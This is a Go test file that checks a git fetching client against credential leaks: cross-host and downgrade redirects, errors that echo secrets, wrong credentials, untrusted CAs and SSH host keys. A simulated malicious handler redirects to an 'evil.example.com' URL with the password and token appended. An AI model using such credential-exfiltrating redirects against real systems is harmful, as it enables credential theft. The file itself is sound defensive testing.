package source_test

import (
	"encoding/base64"
	"errors"
	"fmt"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"gitgate.dev/gitgate/reconcile/source"
	"gitgate.dev/gitgate/test/testkit/gitserver"
)

func TestAttack_G18_RedirectsKeepCredentialsHome(t *testing.T) {
	for name, tc := range map[string]struct {
		reason string
		// target makes the base URL of the redirect.
		target func(self, other *gitserver.Server) string
		fault  string
		follow bool
	}{
		"OtherHost": {"Another port is another server (CVE-2026-41506).", func(_, o *gitserver.Server) string { return strings.TrimSuffix(o.URL(""), "/") }, "info/refs", false},
		"OtherName": {"Another name for the same address is another host.", func(s, _ *gitserver.Server) string {
			return strings.Replace(strings.TrimSuffix(s.URL(""), "/"), "127.0.0.1", "localhost", 1)
		}, "info/refs", false},
		"Downgrade": {"From https to http.", func(s, _ *gitserver.Server) string {
			return strings.Replace(strings.TrimSuffix(s.URL(""), "/"), "https", "http", 1)
		}, "info/refs", false},
		"Credentials": {"The server chooses the credentials.", func(s, _ *gitserver.Server) string {
			return strings.Replace(strings.TrimSuffix(s.URL(""), "/"), "//", "//a:b@", 1)
		}, "info/refs", false},
		"Listing": {"Later requests are not redirected.", func(_, o *gitserver.Server) string { return strings.TrimSuffix(o.URL(""), "/") }, "ls-refs", false},
		"Fetch":   {"Later requests are not redirected.", func(_, o *gitserver.Server) string { return strings.TrimSuffix(o.URL(""), "/") }, "fetch", false},
		"SameHost": {"A renamed repository on the same host is followed.", func(s, _ *gitserver.Server) string {
			return s.URL("moved")
		}, "info/refs", true},
	} {
		t.Run("G18/"+name, func(t *testing.T) {
			o := gitserver.Options{TLS: true, Username: "bot", Password: canary}
			s := gitserver.New(t, o)
			other := gitserver.New(t, gitserver.Options{})
			up := newUpstream(t, s, "a.git")
			head := up.push()
			up.git("clone", "-q", "--bare", up.bare, s.Root()+"/moved/a.git")
			r := open(t, openCache(t, t.TempDir()), source.Options{
				URL:  s.URL("a.git"),
				Auth: auth(t, s.URL("a.git"), map[string]string{"username": "bot", "password": canary, "ca.crt": string(s.CA())}),
			})
			s.Inject(gitserver.Fault{On: tc.fault, Redirect: tc.target(s, other), Times: 1})
			res, err := r.Fetch(t.Context())
			if n := len(other.Requests()); n != 0 {
				t.Errorf("%s\nthe redirect's target got %d requests: %+v", tc.reason, n, other.Requests())
			}
			if tc.follow {
				if err != nil || res.Head != head {
					t.Fatalf("%s\n%v", tc.reason, err)
				}
				for _, q := range s.Requests()[1:] {
					if !strings.HasPrefix(q.Path, "/moved/a.git/") {
						t.Errorf("%s\nafter the redirect %s was asked", tc.reason, q.Path)
					}
				}
				return
			}
			e := wantReason(t, err, source.SourceUnavailable)
			if !strings.Contains(e.Error(), "redirect") {
				t.Errorf("%s\nthe error does not speak of a redirect: %v", tc.reason, e)
			}
		})
	}
}

// A 307 would carry the request's body, and another repository's content back.
func TestAttack_G18_RequestsAreNotRedirectedEvenOnTheSameHost(t *testing.T) {
	for _, command := range []string{"ls-refs", "fetch"} {
		t.Run("G18/"+command, func(t *testing.T) {
			s := gitserver.New(t, gitserver.Options{})
			up := newUpstream(t, s, "a.git")
			up.push()
			up.git("clone", "-q", "--bare", up.bare, s.Root()+"/other.git")
			r := open(t, openCache(t, t.TempDir()), source.Options{URL: s.URL("a.git")})
			s.Inject(gitserver.Fault{On: command, Times: 1, Handler: func(w http.ResponseWriter, r *http.Request) {
				http.Redirect(w, r, "/other.git/git-upload-pack", http.StatusTemporaryRedirect)
			}})
			_, err := r.Fetch(t.Context())
			wantReason(t, err, source.SourceUnavailable)
			for _, q := range s.Requests() {
				if strings.HasPrefix(q.Path, "/other.git") {
					t.Errorf("the redirect was followed to %s", q.Path)
				}
			}
		})
	}
}

func TestNoErrorHoldsACredential(t *testing.T) {
	echo := func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/x-git-upload-pack-advertisement")
		user, password, _ := r.BasicAuth()
		gitserver.WritePackets(w, fmt.Sprintf("ERR %s %s %s %s\n", r.Header.Get("Authorization"), user, password, base64.StdEncoding.EncodeToString([]byte(password))))
	}
	echoType := func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", r.Header.Get("Authorization"))
	}
	echoRedirect := func(w http.ResponseWriter, r *http.Request) {
		_, password, _ := r.BasicAuth()
		http.Redirect(w, r, "http://evil.example.com/"+password+strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "), http.StatusFound)
	}
	echoSideband := func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/x-git-upload-pack-result")
		_, password, _ := r.BasicAuth()
		gitserver.WritePackets(w, "packfile\n")
		gitserver.WriteSideband(w, 3, []byte("fatal: "+password+r.Header.Get("Authorization")))
	}
	s := gitserver.New(t, gitserver.Options{Username: "bot", Password: canary, Token: canary})
	up := newUpstream(t, s, "a.git")
	up.push()
	for name, f := range map[string]gitserver.Fault{
		"401":          {Status: 401},
		"403":          {Status: 403},
		"404":          {Status: 404},
		"429":          {Status: 429, RetryAfter: "30"},
		"500":          {Status: 500},
		"503":          {Status: 503, RetryAfter: "1000000"},
		"302Nowhere":   {Status: 302},
		"Cut":          {CutAfter: 20},
		"CutListing":   {On: "ls-refs", CutAfter: 20},
		"CutFetch":     {On: "fetch", CutAfter: 20},
		"Slow":         {Trickle: 200 * time.Millisecond},
		"Echo":         {Handler: echo},
		"EchoListing":  {On: "ls-refs", Handler: echo},
		"EchoType":     {Handler: echoType},
		"EchoRedirect": {Handler: echoRedirect},
		"EchoSideband": {On: "fetch", Handler: echoSideband},
		"NotGit":       {Handler: func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte("<html>log in</html>")) }},
		"RedirectLogin": {Handler: func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "/login?x="+canary, http.StatusFound)
		}},
	} {
		for kind, secret := range map[string]map[string]string{
			"Password": {"username": "bot", "password": canary}, "Token": {"bearerToken": canary},
		} {
			t.Run(name+"/"+kind, func(t *testing.T) {
				timeout := 10 * time.Second
				if f.Trickle > 0 {
					timeout = 300 * time.Millisecond
				}
				r := open(t, openCache(t, t.TempDir()), source.Options{URL: s.URL("a.git"), Auth: auth(t, s.URL("a.git"), secret), Timeout: timeout})
				s.Inject(f)
				_, err := r.Fetch(t.Context())
				e := wantReason(t, err, source.SourceUnavailable)
				assertNoSecret(t, err)
				switch {
				case f.RetryAfter == "30" && e.RetryAfter != 30*time.Second:
					t.Errorf("RetryAfter = %s, want 30s", e.RetryAfter)
				case f.RetryAfter == "1000000" && e.RetryAfter != time.Hour:
					t.Errorf("RetryAfter = %s, want it capped at 1h", e.RetryAfter)
				}
				s.Heal()
				if f.Trickle == 0 {
					fetch(t, r)
				}
			})
		}
	}
}

// assertNoSecret looks at every error of the chain.
func assertNoSecret(t *testing.T, err error) {
	t.Helper()
	for e := err; e != nil; e = errors.Unwrap(e) {
		for _, text := range []string{e.Error(), fmt.Sprintf("%+v", e), fmt.Sprintf("%#v", e)} {
			if strings.Contains(text, canary) || strings.Contains(text, base64.StdEncoding.EncodeToString([]byte("bot:"+canary))) || strings.Contains(text, base64.StdEncoding.EncodeToString([]byte(canary))) {
				t.Errorf("the error holds the credential: %s", text)
			}
		}
	}
}

func TestWrongCredentials(t *testing.T) {
	s := gitserver.New(t, gitserver.Options{TLS: true, SSH: true, Username: "bot", Password: "right", Token: "right"})
	up := newUpstream(t, s, "a.git")
	up.push()
	stranger := gitserver.New(t, gitserver.Options{TLS: true, SSH: true})
	otherKey, otherPublic := newKey(t, "")
	sshHost := strings.Fields(string(s.KnownHosts()))[0]
	ca, url, sshURL := string(s.CA()), s.URL("a.git"), s.SSHURL("a.git")
	for name, tc := range map[string]struct {
		reason string
		url    string
		secret map[string]string
		want   string
	}{
		"Password":   {"A wrong password.", url, map[string]string{"username": "bot", "password": canary, "ca.crt": ca}, "authentication failed"},
		"Token":      {"A wrong token.", url, map[string]string{"bearerToken": canary, "ca.crt": ca}, "authentication failed"},
		"Anonymous":  {"No credentials.", url, map[string]string{"ca.crt": ca}, "authentication failed"},
		"NoCA":       {"The system does not know the CA, and no credential is sent.", url, map[string]string{"username": "bot", "password": "right"}, "certificate"},
		"OtherCA":    {"ca.crt replaces all other CAs.", url, map[string]string{"username": "bot", "password": "right", "ca.crt": string(stranger.CA())}, "certificate"},
		"Missing":    {"No such repository.", s.URL("b.git"), map[string]string{"username": "bot", "password": "right", "ca.crt": ca}, "not found"},
		"SSHKey":     {"A key that the server does not know.", sshURL, map[string]string{"identity": otherKey, "known_hosts": string(s.KnownHosts())}, "authentication failed"},
		"SSHHostKey": {"A host with another key than known_hosts says.", sshURL, map[string]string{"identity": string(s.ClientKey()), "known_hosts": sshHost + " " + otherPublic}, "not in known_hosts"},
		"SSHMissing": {"No such repository.", s.SSHURL("b.git"), map[string]string{"identity": string(s.ClientKey()), "known_hosts": string(s.KnownHosts())}, "no such repository"},
	} {
		t.Run(name, func(t *testing.T) {
			s.ResetRequests()
			r := open(t, openCache(t, t.TempDir()), source.Options{URL: tc.url, Auth: auth(t, tc.url, tc.secret)})
			_, err := r.Fetch(t.Context())
			e := wantReason(t, err, source.SourceUnavailable)
			if !strings.Contains(e.Error(), tc.want) {
				t.Errorf("%s\nerr = %v, want %q in it", tc.reason, e, tc.want)
			}
			assertNoSecret(t, err)
			if strings.HasSuffix(name, "CA") && len(s.Requests()) != 0 {
				t.Errorf("%s\na server that is not trusted got a request", tc.reason)
			}
			if name == "SSHHostKey" && len(s.Requests()) != 0 {
				t.Errorf("%s\na host that is not trusted got a session", tc.reason)
			}
		})
	}
}

func TestSSHServerThatSaysNothing(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	private, public := newKey(t, "")
	host, port, err := net.SplitHostPort(ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	url := "ssh://git@" + ln.Addr().String() + "/a.git"
	a := auth(t, url, map[string]string{"identity": private, "known_hosts": fmt.Sprintf("[%s]:%s %s", host, port, public)})
	start := time.Now()
	_, err = open(t, openCache(t, t.TempDir()), source.Options{URL: url, Auth: a, Timeout: 300 * time.Millisecond}).Fetch(t.Context())
	wantReason(t, err, source.SourceUnavailable)
	if d := time.Since(start); d > 10*time.Second {
		t.Errorf("a timeout of 300 ms took %s", d)
	}
}

// Another tenant who knows the URL but has no credentials gets nothing from the
// clone that others share.
func TestSharedCloneAsksForEachUsersCredentials(t *testing.T) {
	s := gitserver.New(t, gitserver.Options{Username: "bot", Password: "right"})
	up := newUpstream(t, s, "a.git")
	up.push()
	cache := openCache(t, t.TempDir())
	fetch(t, open(t, cache, source.Options{URL: s.URL("a.git"), Auth: auth(t, s.URL("a.git"), map[string]string{"username": "bot", "password": "right"})}))
	_, err := open(t, cache, source.Options{URL: s.URL("a.git")}).Fetch(t.Context())
	wantReason(t, err, source.SourceUnavailable)
}
